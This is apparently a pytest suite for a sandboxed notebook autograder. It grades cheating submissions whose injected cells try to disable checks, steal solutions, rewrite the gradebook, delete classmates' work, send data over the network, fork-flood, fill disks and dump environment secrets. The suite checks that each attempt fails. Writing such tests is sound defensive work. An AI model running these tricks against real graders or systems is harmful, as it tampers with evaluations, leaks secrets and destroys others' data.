"""A class of cheaters, graded in the sandbox by `make grade WORKERS=2`'s command.

Every cheater submits the SAME plain wrong answer of lesson 01 (`count_dense_params` forgets
the bias: 6/8 on its own) plus one cell with one trick, right after that answer, before its
checks. Two tricks per family: kernel hooks, the modules the checks use, reading the
solutions or the gradebook, writing the gradebook, classmates' files, the network (loopback
too), lingering processes, disk fill, a bounded fork flood, environment leaks. The class also
holds the plain wrong answer and three honest students.

Each cheater must score no more than the plain wrong answer or be flagged (`needs manual
grade`, "tampering suspected"); each trick's side effect is checked not to have happened; the
honest students keep full marks. The grader runs with secrets in its environment, a TCP and a
UDP listener on this machine, and the course at a path the tricks know.
"""

import hashlib
import os
import re
import secrets
import socket
import sys
import threading
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell

from tests.grader import cases

pytestmark = pytest.mark.slow

A = cases.ASSIGNMENT
WRONG = dict(
    count_dense_params="""
    def count_dense_params(num_features, units):
        return num_features * units  # wrong: forgets the bias
"""
)
FIND_COURSE = """
import glob, os
def find_courses():
    found = {'@COURSE@'} if os.path.isdir('@COURSE@') else set()
    for link in glob.glob('/proc/*/cwd'):
        try:
            path = os.readlink(link)
        except OSError:
            continue
        while path != '/':
            if os.path.exists(os.path.join(path, 'gradebook.db')):
                found.add(path)
            path = os.path.dirname(path)
    return sorted(found)
print('courses found:', find_courses())
"""
TRICKS = {
    # kernel hooks
    "k1-transform-cell": "get_ipython().transform_cell = lambda cell: 'pass\\n'",
    "k2-swallow-errors": "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
    # the modules the checks use
    "m1-patch-checks": """
import helpers.checks as c, numpy.testing as nt
for name in [n for n in dir(c) if n.startswith('check_') or n.startswith('_')]:
    if callable(getattr(c, name)) and not name.startswith('__'):
        setattr(c, name, lambda *args, **kwargs: True)
nt.assert_equal = nt.assert_allclose = lambda *args, **kwargs: None
""",
    "m2-patch-keras": """
import keras
keras.layers.Dense.count_params = lambda self: int(self.kernel.shape[0]) * int(self.kernel.shape[1])
""",
    # reading the solutions or the gradebook
    "r1-copy-solutions": FIND_COURSE
    + """
import shutil
for course in find_courses():
    for nb in glob.glob(course + '/solutions/*/*.ipynb'):
        shutil.copy(nb, '.')
        shutil.copy(nb, '@STOLEN@')
print('copied:', sorted(glob.glob('*.ipynb')))
""",
    "r2-read-gradebook": FIND_COURSE
    + """
import sqlite3
for course in find_courses():
    try:
        rows = sqlite3.connect(course + '/gradebook.db').execute('select * from student').fetchall()
        print('gradebook rows:', rows)
    except Exception as exc:
        print('no gradebook:', type(exc).__name__)
print('db files:', [os.path.join(d, f) for d, _, fs in os.walk('/') for f in fs if f.endswith('.db')][:20])
""",
    # writing the gradebook
    "w1-sql-update": FIND_COURSE
    + """
import sqlite3
for course in ['@COURSE@'] + find_courses():
    try:
        db = sqlite3.connect(course + '/gradebook.db')
        db.execute('update grade set auto_score = 99')
        db.commit()
        print('updated')
    except Exception as exc:
        print('could not write:', type(exc).__name__)
""",
    "w2-overwrite-db": """
import os
for path in ['@COURSE@/gradebook.db'] + [os.path.join(d, 'gradebook.db') for d, _, fs in os.walk('/')
                                         if 'gradebook.db' in fs]:
    try:
        open(path, 'wb').write(b'garbage')
        print('overwrote', path)
    except OSError as exc:
        print('could not write', path, type(exc).__name__)
""",
    # classmates' files
    "c1-delete-classmates": FIND_COURSE
    + """
import shutil
for course in find_courses():
    for folder in ('submitted', 'autograded', 'feedback'):
        for other in glob.glob(f'{course}/{folder}/honest*'):
            shutil.rmtree(other, ignore_errors=True)
print('left:', glob.glob('@COURSE@/submitted/*'))
""",
    "c2-overwrite-solutions": """
import glob
for path in glob.glob('@COURSE@/solutions/*/*.ipynb') + ['@COURSE@/solutions/@A@/@A@.ipynb']:
    try:
        open(path, 'w').write('{}')
    except OSError as exc:
        print('solutions:', type(exc).__name__)
try:
    open('@COURSE@/PWNED.txt', 'w').write('pwned')
except OSError as exc:
    print('course root:', type(exc).__name__)
""",
    # the network, loopback included
    "n1-loopback-tcp": """
import socket
for host in ('127.0.0.1', 'localhost', '::1'):
    try:
        socket.create_connection((host, @PORT@), timeout=3).sendall(b'pwned')
        print('sent to', host)
    except OSError as exc:
        print(host, type(exc).__name__)
""",
    "n2-udp-and-outside": """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    try:
        s.sendto(b'pwned', ('127.0.0.1', @UPORT@))
    except OSError as exc:
        print('udp', type(exc).__name__)
for host in ('@HOSTIP@', 'example.com'):
    try:
        socket.create_connection((host, @PORT@ if host == '@HOSTIP@' else 80), timeout=3).sendall(b'pwned')
        print('reached', host)
    except OSError as exc:
        print(host, type(exc).__name__)
""",
    # lingering processes
    "l1-background-process": """
import subprocess
subprocess.Popen(['sleep', '@MARK@1'], start_new_session=True)
""",
    "l2-double-fork-daemon": """
import os
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '@MARK@2'])
    os._exit(0)
os.waitpid(pid, 0)
""",
    # disk fill
    "d1-fill-tmp": """
import errno
written = 0
try:
    for i in range(32):
        with open(f'/tmp/fill-@MARK@-{i}', 'wb') as f:
            for _ in range(16):
                f.write(b'x' * 2**20)
                f.flush()
                written += 1
except OSError as exc:
    print('tmp full after', written, 'MiB:', errno.errorcode[exc.errno])
""",
    "d2-fill-working-copy": """
import errno
for i in range(8):
    try:
        with open(f'fill-{i}.bin', 'wb') as f:
            for _ in range(64):
                f.write(b'x' * 2**20)
                f.flush()
    except OSError as exc:
        print('file', i, errno.errorcode[exc.errno])
""",
    # a bounded fork flood (children exit by themselves after 20 s)
    "f1-fork-flood": """
import os, time
children = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
except OSError as exc:
    print('fork stopped after', children, type(exc).__name__)
""",
    "f2-spawn-flood": """
import subprocess
started = []
try:
    for _ in range(400):
        started.append(subprocess.Popen(['sleep', '@MARK@3']))
except OSError as exc:
    print('spawn stopped after', len(started), type(exc).__name__)
""",
    # environment leaks
    "e1-print-environment": "import os\nprint(dict(os.environ))",
    "e2-proc-environ": """
import glob
for path in ['/proc/1/environ', '/proc/self/environ'] + glob.glob('/proc/*/environ'):
    try:
        print(path, open(path, 'rb').read().replace(b'\\0', b' ').decode(errors='replace'))
    except OSError as exc:
        print(path, type(exc).__name__)
""",
}
HONEST_EXTRA = "print('my own check:', count_dense_params(3, 32))\n%time total = sum(range(1000))"


class _Listener:
    """A TCP and a UDP listener on this machine that record anything they receive."""

    def __init__(self):
        self.received = []
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.tcp.accept()
                self.received.append(("tcp", conn.recv(100)))
            except OSError:
                pass
            try:
                self.received.append(("udp", self.udp.recvfrom(100)[0]))
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.tcp.close()
        self.udp.close()


def _host_ip():
    try:
        return socket.gethostbyname(socket.gethostname())
    except OSError:
        return "127.0.0.1"


def _with_cell(nb, source):
    at = cases.index_of(nb, "count_dense_params_code") + 1
    nb.cells.insert(at, new_code_cell(source))
    return nb


def _sleepers(mark):
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if f"sleep {mark}" in text:
            found.append(text)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    work = tmp_path_factory.mktemp("cheaters")
    course = cases.build_course(work)
    with open(course / "nbgrader_config.py", "a") as config:  # small caps: the tricks stay quick
        config.write(
            "\nc.GuardedExecute.sandbox_tmp_mb = 64\nc.GuardedExecute.sandbox_file_mb = 16\n"
            "c.GuardedExecute.sandbox_processes = 256\n"
        )
    listener = _Listener()
    mark = str(secrets.randbelow(10**6) + 10**6)
    stolen = work / "stolen.ipynb"
    secrets_env = {
        "DB_URL": f"postgresql+psycopg2://grader:pw-{secrets.token_hex(8)}@db:5432/gradebook",
        "GRADER_TOKEN": f"token-{secrets.token_hex(8)}",
    }
    values = {
        "@COURSE@": str(course),
        "@PORT@": str(listener.tcp.getsockname()[1]),
        "@UPORT@": str(listener.udp.getsockname()[1]),
        "@MARK@": mark,
        "@STOLEN@": str(stolen),
        "@HOSTIP@": _host_ip(),
        "@A@": A,
    }
    wrong = lambda: cases.trimmed(cases.solution_nb(course, **WRONG))  # noqa: E731
    students = {
        "honest-trimmed": cases.trimmed(cases.solution_nb(course)),
        "honest-full": cases.solution_nb(course),
        "honest-extra-cell": _with_cell(cases.trimmed(cases.solution_nb(course)), HONEST_EXTRA),
        "plain-wrong": wrong(),
    }
    for name, trick in TRICKS.items():
        for key, value in values.items():
            trick = trick.replace(key, value)
        students[f"cheat-{name}"] = _with_cell(wrong(), trick.strip("\n"))
    for student, nb in students.items():
        cases.write_submission(course, student, nb)
    solution = course / "solutions" / A / f"{A}.ipynb"
    before = {
        "solution": hashlib.sha256(solution.read_bytes()).hexdigest(),
        "root": sorted(p.name for p in course.iterdir()),
    }
    proc = cases.run_grade(course, workers=2, env=secrets_env)
    listener.close()
    yield dict(
        course=course,
        proc=proc,
        rows=cases.read_csv(course),
        listener=listener,
        mark=mark,
        stolen=stolen,
        secrets=secrets_env,
        before=before,
        solution=solution,
        students=students,
    )


def _outputs(graded, student, trick_cell=False):
    """Every output of the autograded notebook (or only the trick cell's) as text."""
    after = "count_dense_params_code" if trick_cell else None
    return cases.cell_outputs(graded["course"], student, after=after)


def test_the_class_was_graded_in_the_sandbox(graded):
    assert graded["proc"].returncode == 0, (
        graded["proc"].stdout[-3000:] + graded["proc"].stderr[-3000:]
    )
    assert "sandbox ok" in graded["proc"].stdout
    assert sorted(graded["rows"]) == sorted(graded["students"])


def test_honest_students_keep_full_marks(graded):
    for student in ("honest-trimmed", "honest-full", "honest-extra-cell"):
        row = graded["rows"][student]
        assert (row["status"], row["score"], row["max_score"]) == ("graded", "8", "8"), row
        assert "tampering" not in row["reason"]
    assert "my own check: 128" in _outputs(graded, "honest-extra-cell")


def test_the_plain_wrong_answer_scores_six(graded):
    row = graded["rows"]["plain-wrong"]
    assert (row["status"], row["score"]) == ("graded", "6"), row


@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_no_cheater_scores_more_than_the_plain_wrong_answer_unless_flagged(graded, trick):
    row = graded["rows"][f"cheat-{trick}"]
    flagged = row["status"] == "needs manual grade" and "tampering suspected" in row["reason"]
    assert float(row["score"]) <= 6 or flagged, row
    if flagged:
        assert "cell " in row["reason"] and " line " in row["reason"], row["reason"]


@pytest.mark.parametrize("trick", ["k1-transform-cell", "k2-swallow-errors", "m1-patch-checks"])
def test_tricks_that_beat_the_old_grader_earn_nothing(graded, trick):
    assert float(graded["rows"][f"cheat-{trick}"]["score"]) <= 6


def test_nothing_was_read(graded):
    assert not graded["stolen"].exists()
    r1 = _outputs(graded, "cheat-r1-copy-solutions", trick_cell=True)
    assert "courses found: []" in r1 and f"copied: ['{A}.ipynb']" in r1, r1  # its own notebook only
    copies = list((graded["course"] / "autograded" / "cheat-r1-copy-solutions" / A).glob("*.ipynb"))
    assert [p.name for p in copies] == [f"{A}.ipynb"]
    r2 = _outputs(graded, "cheat-r2-read-gradebook", trick_cell=True)
    assert "courses found: []" in r2, r2  # (it finds only read-only files of the system and venv)
    assert (
        str(graded["course"]) not in r2
        and "gradebook rows" not in r2
        and "honest-trimmed" not in r2
    )
    found = re.findall(r"'([^']*gradebook\.db)'", r2)
    assert all(path.startswith(os.path.realpath(sys.prefix)) for path in found), (
        found
    )  # nbgrader's own test file


def test_the_gradebook_was_not_written(graded):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded['course'] / 'gradebook.db'}", "shapes-and-batches") as gb:
        scores = {s: gb.find_submission_notebook(A, A, s).score for s in graded["students"]}
    assert scores["honest-trimmed"] == scores["honest-full"] == 8 and scores["plain-wrong"] == 6
    assert max(scores.values()) <= 8
    assert "could not write: OperationalError" in _outputs(
        graded, "cheat-w1-sql-update", trick_cell=True
    )
    w2 = _outputs(graded, "cheat-w2-overwrite-db", trick_cell=True)
    assert "overwrote" not in w2 and "could not write" in w2, w2


def test_classmates_files_and_the_course_are_untouched(graded):
    course = graded["course"]
    for student in ("honest-trimmed", "honest-full", "honest-extra-cell"):
        assert (course / "submitted" / student / A / f"{A}.ipynb").exists()
        assert (course / "feedback" / student / A / f"{A}.html").exists()
    assert (
        hashlib.sha256(graded["solution"].read_bytes()).hexdigest() == graded["before"]["solution"]
    )
    added = set(p.name for p in course.iterdir()) - set(graded["before"]["root"])
    assert added <= {"autograded", "feedback", "grades"}, added


def test_nothing_went_over_the_network(graded):
    assert graded["listener"].received == []
    out = _outputs(graded, "cheat-n1-loopback-tcp", trick_cell=True) + _outputs(
        graded, "cheat-n2-udp-and-outside", trick_cell=True
    )
    assert "sent to" not in out and "reached" not in out and "ConnectionRefusedError" in out, out


def test_no_process_outlived_grading(graded):
    for suffix in ("1", "2", "3"):
        assert _sleepers(graded["mark"] + suffix) == []
    assert "fork stopped after" in _outputs(graded, "cheat-f1-fork-flood", trick_cell=True)
    assert "spawn stopped after" in _outputs(graded, "cheat-f2-spawn-flood", trick_cell=True)


def test_disk_fill_stays_in_its_caps(graded):
    assert list(Path("/tmp").glob(f"fill-{graded['mark']}*")) == []
    d1 = _outputs(graded, "cheat-d1-fill-tmp", trick_cell=True)
    assert "ENOSPC" in d1 and int(d1.split()[3]) <= 64, d1  # the 64 MiB /tmp of the test course
    d2 = _outputs(graded, "cheat-d2-fill-working-copy", trick_cell=True)
    assert "file 0 EFBIG" in d2 and "ENOSPC" in d2, d2  # 16 MiB a file, 64 MiB in all
    folder = graded["course"] / "autograded" / "cheat-d2-fill-working-copy" / A
    assert not list(folder.glob("fill-*.bin")), "what the kernel wrote outlived it"


def test_the_graders_environment_does_not_leak(graded):
    course = graded["course"]
    for student in graded["students"]:
        text = _outputs(graded, student)
        page = (course / "feedback" / student / A / f"{A}.html").read_text()
        for value in graded["secrets"].values():
            assert value not in text and value not in page, student
    assert "'HOME': '/home/student'" in _outputs(
        graded, "cheat-e1-print-environment", trick_cell=True
    )
    e2 = _outputs(graded, "cheat-e2-proc-environ", trick_cell=True)
    assert "/proc/1/environ PermissionError" in e2, e2
